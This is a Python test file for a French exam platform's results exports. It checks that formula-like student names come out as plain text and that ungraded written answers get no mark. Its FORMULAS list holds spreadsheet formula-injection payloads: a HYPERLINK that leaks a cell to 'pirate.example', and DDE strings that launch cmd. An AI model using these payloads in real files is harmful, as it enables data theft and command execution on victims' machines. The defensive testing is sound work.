"""Exam results exports (resultats.csv / .xlsx): French CSV, numbers as numbers, no formulas."""

import csv
import io
import re
from decimal import Decimal

import openpyxl

from agora.exam import closing, grading, service

# Names a hostile student could type (or a teacher import): each one a formula in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _graded_exam(db, clock, make_exam, classe, make_student):
    """Every student of the class has a formula as name; each starts and hands in a copy."""
    exam = make_exam()
    for i, name in enumerate(FORMULAS):
        student = make_student(classe=classe, prenom=name, nom=f"{name} {i}")
        copy = service.start(db, exam, student, clock(), "127.0.0.1", "test")
        service.submit(db, copy, clock, "127.0.0.1", "test")
    db.commit()
    assert closing.finalise(db, clock(), exam.id) == len(FORMULAS)
    db.commit()
    return exam


def test_results_csv_writes_formula_names_as_text_and_marks_as_numbers(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam = _graded_exam(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    body = client.get(f"/enseignant/evaluations/{exam.id}/resultats.csv").content
    header, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
    assert sorted(row[1] for row in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        assert row[0] == f"{row[1]} {FORMULAS.index(row[1][1:])}"
        note = row[header.index("Note /20")]
        assert note.replace(",", "").isdigit() and "," in note  # « 0,00 »: a French number


def test_results_xlsx_never_holds_a_formula(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam = _graded_exam(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    body = client.get(f"/enseignant/evaluations/{exam.id}/resultats.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    names = [sheet.cell(r, 2) for r in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in names) == sorted(FORMULAS)
    assert [(c.data_type, c.quotePrefix) for c in names] == [("s", True)] * len(FORMULAS)
    note_column = [c.value for c in sheet[1]].index("Note /20") + 1
    notes = [sheet.cell(r, note_column) for r in range(2, sheet.max_row + 1)]
    assert all(c.data_type == "n" and isinstance(c.value, int | float) for c in notes)


# ----------------------------------------------------- a written answer still to grade

WRITING_QUESTIONS = [
    {"kind": "facture", "niveau": 1, "points": 8},
    # step 1 of this mission: a courriel graded with a rubric of 3 + 3 + 2 points
    {"kind": "redaction", "mission": "l-appel-du-client", "etape": 1},
]
COURRIEL = {"a": "paul@exemple.fr", "objet": "Rappeler le client", "corps": "Merci de le rappeler."}


def _exam_with_a_writing_to_grade(db, clock, make_exam, classe, make_student):
    """Léa and Tom hand in; Léa's courriel is graded (7 / 8), Tom's still waits: (exam, copies)."""
    from agora.exam import redaction

    exam = make_exam(questions=WRITING_QUESTIONS, melange=False)
    copies = {}
    for prenom, nom in (("Léa", "Arnaud"), ("Tom", "Bernard")):
        student = make_student(classe=classe, prenom=prenom, nom=nom)
        copy = service.start(db, exam, student, clock(), "127.0.0.1", "test")
        service.save_answer(db, copy, 1, COURRIEL, clock, "127.0.0.1", "test")
        service.submit(db, copy, clock, "127.0.0.1", "test")
        copies[nom] = copy
    db.commit()
    assert closing.finalise(db, clock(), exam.id) == 2
    graded = service.answers_of(db, copies["Arnaud"].id)[1]
    redaction.grade_answer(db, exam, graded, ["3", "2", "2"], ["", "", ""], "", clock())
    db.commit()
    return exam, copies


def test_a_copy_whose_writing_waits_has_no_mark_in_any_export(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam, _ = _exam_with_a_writing_to_grade(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    base = f"/enseignant/evaluations/{exam.id}"

    body = client.get(f"{base}/pronote.csv").content.decode("utf-8-sig")
    _, *rows = csv.reader(io.StringIO(body), delimiter=";")
    by_name = {row[0]: row for row in rows}
    assert by_name["Bernard"][3:] == ["", "à corriger"]  # never a false 0 in the grade book
    assert by_name["Arnaud"][3] != "" and by_name["Arnaud"][4] == ""

    body = client.get(f"{base}/resultats.csv").content.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(body), delimiter=";")
    tom = {h: v for h, v in zip(header, next(r for r in rows if r[0] == "Bernard"), strict=True)}
    assert tom["Note /20"] == "à corriger" and tom["Total (/16)"] == ""
    assert tom[header[4]] == "à corriger"  # the courriel's points
    assert re.fullmatch(r"\d+,\d\d", tom[header[3]])  # the invoice is graded: its points stay

    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{base}/resultats.xlsx").content))
    sheet = book.active
    titles = [c.value for c in sheet[1]]
    tom_row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "Bernard")
    assert tom_row[titles.index("Note /20")].value == "à corriger"
    assert tom_row[titles.index("Total (/16)")].value is None


def test_results_page_leaves_a_copy_whose_writing_waits_out_of_the_mean(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam, copies = _exam_with_a_writing_to_grade(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    page = client.get(f"/enseignant/evaluations/{exam.id}/resultats").text
    db.refresh(copies["Arnaud"])
    note = grading.note_sur_20(copies["Arnaud"].points, exam.total_points)
    # The mean is Léa's mark alone; the page says that one copy is left out, and why.
    assert f"moyenne {str(note).replace('.', ',')} / 20" in page
    assert "1 copie dont une rédaction est à corriger n&#39;est pas comptée" in page
    tom_row = page.split("Bernard Tom</th>")[1].split("</tr>")[0]
    cells = re.findall(r'<td class="nombre">(.*?)</td>', tom_row)
    # the invoice's points (he left it blank), the courriel, the total, the mark
    assert cells == ["0,00", "à corriger", "—", "à corriger"]


def test_points_total_and_mark_have_two_decimals_in_csv_and_xlsx(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam = _graded_exam(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    base = f"/enseignant/evaluations/{exam.id}"
    marks = slice(3, 3 + len(exam.questions) + 2)  # points per question, total, mark on 20
    body = client.get(f"{base}/resultats.csv").content.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(body), delimiter=";")
    assert header[marks][-2:] == [f"Total (/{exam.total_points})", "Note /20"]
    for row in rows:
        assert all(re.fullmatch(r"\d+,\d\d", cell) for cell in row[marks]), row  # « 19,76 »
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"{base}/resultats.xlsx").content)).active
    for row in sheet.iter_rows(min_row=2):
        assert {cell.number_format for cell in row[marks]} == {"0.00"}, row


def test_the_teachers_page_of_a_student_gives_no_mark_while_their_writing_waits(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    # The student's page computed a note from the copy's points, which count the courriel 0.
    exam, copies = _exam_with_a_writing_to_grade(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    tom = client.get(f"/enseignant/eleves/{copies['Bernard'].student_id}")
    row = tom.text.split(f">{exam.titre}</a></th>")[1].split("</tr>")[0]
    assert re.findall(r'<td class="nombre">(.*?)</td>', row) == ["à corriger"]
    lea = client.get(f"/enseignant/eleves/{copies['Arnaud'].student_id}")
    row = lea.text.split(f">{exam.titre}</a></th>")[1].split("</tr>")[0]
    assert re.fullmatch(r"\d+,\d\d", re.findall(r'<td class="nombre">(.*?)</td>', row)[0])


def test_the_statistics_leave_out_a_copy_whose_writing_waits(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    # Tom's courriel, not graded yet, counted 0 in the question's mean and discrimination.
    from agora.exam.report import exam_report

    exam, _ = _exam_with_a_writing_to_grade(db, clock, make_exam, classe, make_student)
    report = exam_report(db, exam)
    assert report.graded == 1 and report.en_attente == 1
    courriel = report.questions[1].summary
    assert courriel.mean_ratio == Decimal(7) / Decimal(8)  # Léa's 7 / 8 alone
    page = as_teacher(client, teacher).get(f"/enseignant/evaluations/{exam.id}/statistiques")
    assert "1 copie dont une rédaction est à corriger n&#39;est pas comptée" in page.text
